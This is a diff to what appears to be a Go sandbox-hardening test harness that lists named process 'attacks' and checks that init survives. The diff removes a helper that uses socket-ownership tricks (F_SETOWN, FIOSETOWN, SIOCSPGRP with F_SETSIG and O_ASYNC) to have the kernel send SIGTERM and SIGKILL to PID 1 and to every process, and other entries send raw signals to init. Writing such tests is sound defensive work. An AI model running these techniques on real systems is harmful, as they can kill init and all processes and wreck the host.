@@ -12,7 +12,6 @@ import (
 	"strconv"
 	"strings"
 	"syscall"
-	"time"
 	"unsafe"
 
 	"golang.org/x/sys/unix"
@@ -135,12 +134,6 @@ var procAttacks = []Attack{
 			*(*int32)(unsafe.Pointer(&info[8])) = -1 // SI_QUEUE
 			_, _, _ = unix.RawSyscall(unix.SYS_RT_SIGQUEUEINFO, 1, uintptr(sig), uintptr(unsafe.Pointer(&info[0])))
 		}
-		for _, sig := range []unix.Signal{unix.SIGTERM, unix.SIGKILL} {
-			for _, pid := range []int32{1, -1} {
-				signalOwner(pid, sig)
-			}
-		}
-		time.Sleep(50 * time.Millisecond)
 		return initLives()
 	}},
 	{Name: "signal-launcher", Refused: []string{"prlimit64"}, What: "stop or kill every thread of init", Run: func(f Facts) error {
@@ -291,30 +284,4 @@ func startUnseen(Facts) error {
 		return nil
 	}
 	return errors.Join(append(errs, errors.New("the record says"))...)
-}
-
-// signalOwner has the kernel send a signal to a process, or group, by making it the owner
-// of sockets that something comes to (fcntl(2), ioctl_sockios).
-func signalOwner(pid int32, sig unix.Signal) {
-	owner := struct{ kind, pid int32 }{1, pid} // F_OWNER_PID
-	for _, own := range []func(fd int) error{
-		func(fd int) error { _, err := unix.FcntlInt(uintptr(fd), unix.F_SETOWN, int(pid)); return err },
-		func(fd int) error {
-			_, _, e := unix.RawSyscall(unix.SYS_FCNTL, uintptr(fd), unix.F_SETOWN_EX, uintptr(unsafe.Pointer(&owner)))
-			return e
-		},
-		func(fd int) error { return unix.IoctlSetPointerInt(fd, 0x8901, int(pid)) }, // FIOSETOWN
-		func(fd int) error { return unix.IoctlSetPointerInt(fd, 0x8902, int(pid)) }, // SIOCSPGRP
-	} {
-		p, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
-		if err != nil {
-			return
-		}
-		_, _ = unix.FcntlInt(uintptr(p[0]), unix.F_SETSIG, int(sig))
-		_ = own(p[0])
-		_, _ = unix.FcntlInt(uintptr(p[0]), unix.F_SETFL, unix.O_ASYNC)
-		_, _ = unix.Write(p[1], []byte{0})
-		unix.Close(p[0])
-		unix.Close(p[1])
-	}
 }
